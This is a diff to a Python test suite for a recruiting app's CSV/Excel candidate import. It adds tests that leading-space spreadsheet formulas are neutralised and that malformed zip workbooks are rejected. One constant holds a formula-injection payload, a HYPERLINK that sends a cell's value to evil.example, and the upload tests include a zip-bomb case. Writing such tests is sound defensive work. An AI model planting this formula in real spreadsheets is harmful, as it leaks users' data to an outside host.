@@ -200,6 +200,43 @@ def test_import_failed_rows_file_uses_the_exports_neutralisation(org, recruiter_
     assert [row[4] for row in failed] == [neutralize(value) for value in values]
 
 
+FORMULA_BEHIND_SPACES = ' =HYPERLINK("https://evil.example/?"&A2,"Click")'
+
+
+def test_import_failed_rows_file_neutralises_a_formula_behind_leading_spaces(org, recruiter_user):
+    # A spreadsheet skips the spaces: the cell is written as the uploader had it, quoted.
+    content = _csv(
+        [
+            ["First Name", "Last Name", "Email", "Headline"],
+            ["Ada", "Lovelace", "not-an-email", FORMULA_BEHIND_SPACES],
+            ["Grace", "Hopper", "nope", "  @SUM(A1)"],
+        ]
+    )
+    job = _run(org, _job(org, recruiter_user, content.encode()))
+
+    failed = _failed_rows(org, job)[1:]
+    assert [row[4] for row in failed] == ["'" + FORMULA_BEHIND_SPACES, "'  @SUM(A1)"]
+
+
+def test_import_failed_rows_file_with_quoted_spaced_formulas_imports_back(org, recruiter_user):
+    """The quote `neutralize` adds before spaces and a formula is dropped again, with the
+    spaces, as importing the original cell would have."""
+    content = _csv(
+        [
+            ["First Name", "Last Name", "Email", "Headline"],
+            ["  =1+2", "Lovelace", "ada-at-example.com", FORMULA_BEHIND_SPACES],
+        ]
+    )
+    job = _run(org, _job(org, recruiter_user, content.encode()))
+    fixed = _failed_rows(org, job)
+    fixed[1][3] = "ada@example.com"
+
+    _run(org, _job(org, recruiter_user, _csv([row[1:-1] for row in fixed]).encode()))
+
+    [ada] = _candidates(org)
+    assert (ada.first_name, ada.headline) == ("=1+2", FORMULA_BEHIND_SPACES.strip())
+
+
 def test_import_failed_rows_file_imports_back_unescaped(org, recruiter_user):
     content = _csv(
         [
@@ -745,6 +782,15 @@ def _zip_bomb() -> bytes:
     return buffer.getvalue()
 
 
+def _xlsx_needing_zip_version(version: int) -> bytes:
+    """A workbook whose first central directory entry says it needs zip version `version` / 10
+    to extract: zipfile refuses anything past 6.3 with NotImplementedError when it opens it."""
+    data = bytearray(_xlsx([["Email"], ["ada@example.com"]]))
+    entry = data.find(b"PK\x01\x02")
+    data[entry + 6] = version
+    return bytes(data)
+
+
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256))
 
 
@@ -760,6 +806,7 @@ PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256))
         ("gap.csv", b"Email,,Name\na@b.co,x,A\n", "Column 2 has no name"),
         ("bomb.xlsx", _zip_bomb(), "zip bomb"),
         ("docs.xlsx", b"PK\x03\x04garbage that is not a zip", "damaged zip"),
+        ("new.xlsx", _xlsx_needing_zip_version(240), "damaged zip"),
         ("old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old-style Excel"),
         # Bytes that decode as Windows-1252 "text" without a control character in them.
         ("high.csv", bytes(range(0x80, 0x100)) * 16, "not a text (CSV) or Excel file"),
@@ -767,12 +814,14 @@ PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256))
     ],
     ids=[
         *["binary", "png", "empty", "blank", "header-only", "duplicate-header", "empty-header"],
-        *["zip-bomb", "broken-zip", "xls", "high-bytes", "png-signature-only"],
+        *["zip-bomb", "broken-zip", "unknown-zip-version", "xls", "high-bytes"],
+        "png-signature-only",
     ],
 )
 def test_import_upload_rejects_malformed_files_with_a_message(
     org, recruiter_client, name, content, message
 ):
+    recruiter_client.raise_request_exception = False  # a crash is a 500 here, not an exception
     url = reverse("candidates:import", args=[org.slug])
     response = recruiter_client.post(url, {"file": SimpleUploadedFile(name, content)})
 
